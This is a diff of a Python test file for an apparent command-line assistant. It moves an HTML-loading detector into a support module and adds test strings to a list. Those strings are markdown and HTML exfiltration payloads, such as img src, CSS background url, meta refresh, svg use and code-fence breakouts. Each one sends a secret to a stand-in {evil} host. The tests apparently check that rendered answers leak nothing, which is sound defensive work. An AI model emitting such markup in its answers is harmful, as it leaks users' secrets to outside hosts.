@@ -16,13 +16,11 @@ import json
 import re
 from collections.abc import AsyncGenerator, Iterator, Mapping, Sequence
 from dataclasses import dataclass, field
-from html.parser import HTMLParser
 from pathlib import Path
 from typing import Any
 from urllib.parse import quote, unquote
 
 import pytest
-from markdown_it import MarkdownIt
 
 from asky.cli.answers import as_markdown, print_answer
 from asky.cli.markdown_stream import MarkdownStream
@@ -38,6 +36,7 @@ from asky.text.terms import word_runs
 from asky.values import Answer
 from tests.integration.chat.test_answering_web import TIDES, Lab, article
 from tests.support.fetching import open_fetcher
+from tests.support.rendering import loaded_by
 from tests.support.search_store import SearchStore
 from tests.support.searching import FakeSearch
 from tests.support.site import Site
@@ -50,10 +49,6 @@ PRIVATE = (
 )
 ALPHABET = "abcdefghijklmnopqrstuvwxyz0123456789"
 _ORDER = re.compile(r"^(DO|SAY) (.+)$", re.MULTILINE)
-_LOADED = {
-    "audio", "base", "embed", "form", "frame", "iframe", "image", "img", "input", "link", "meta", "object", "picture",
-    "script", "source", "style", "svg", "track", "video",
-}  # fmt: skip
 
 
 def spellings(secret: str) -> dict[str, str]:
@@ -392,24 +387,24 @@ SAID = (
     "<{evil}/l?d={plain}>",
     "See {evil}/{reversed}",
     "Two tides.[^1]\n\n[^1]: {evil}/{plain}",
+    ">~~~\n\n![tides]({evil}/i?d={plain})",
+    "- ```\n\n![tides]({evil}/i?d={plain})",
+    "<b>\n<img src={evil}/{plain}>",
+    '<div style="background:url({evil}/{plain})">',
+    "<table background={evil}/{plain}><tr><td>",
+    "<body background={evil}/{plain}><bgsound src={evil}/{hex}>",
+    "<input type=image src={evil}/{plain}>",
+    "<svg><use href={evil}/{plain} /></svg>",
+    "<meta http-equiv=refresh content='0;{evil}/{plain}'>",
+    "m<sup style='background:url({evil}/{plain})'>2</sup>",
+    "m<sup><img src={evil}/{plain}>2</sup>",
+    "<?x {evil}/ ?><![CDATA[<img src={evil}/{plain}>]]>",
+    "``` |\n|-|-|\n<img src={evil}/{plain}>",
+    "One ` and\ntwo ` <img src={evil}/{plain}> `",
+    "a|b\n-|-\n`|<img src={evil}/{plain}>`",
+    "```\rcode\r```\r![tides]({evil}/{plain})",
+    "[x](y`z) ` a ` <img src={evil}/{plain}> `",
 )
-
-
-class _Tags(HTMLParser):
-    def __init__(self) -> None:
-        super().__init__()
-        self.loaded: list[str] = []
-
-    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
-        self.loaded += [tag] if tag in _LOADED else []
-        self.loaded += [name for name, _ in attrs if name in ("style", "background", "src") or name.startswith("on")]
-
-
-def loaded_by(markdown: str) -> list[str]:
-    """What a viewer of `markdown` that lets HTML through would load by itself."""
-    tags = _Tags()
-    tags.feed(MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"]).render(markdown))
-    return tags.loaded
 
 
 @pytest.mark.parametrize("said", SAID)
